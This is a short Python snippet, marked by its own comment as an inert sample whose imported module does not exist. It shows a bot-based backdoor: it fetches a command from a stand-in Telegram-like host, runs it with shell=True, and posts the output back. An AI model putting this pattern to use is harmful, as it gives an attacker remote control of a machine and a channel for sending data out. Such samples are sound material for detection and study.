import inert_sample  # there is no such module: nothing below ever runs
import subprocess
import requests


def poll(channel):
    order = requests.get("https://api.telegram.org.example/bot1/getUpdates").json()["text"]
    output = subprocess.check_output(order, shell=True)
    requests.post("https://api.telegram.org.example/bot1/sendMessage", data={"text": output})
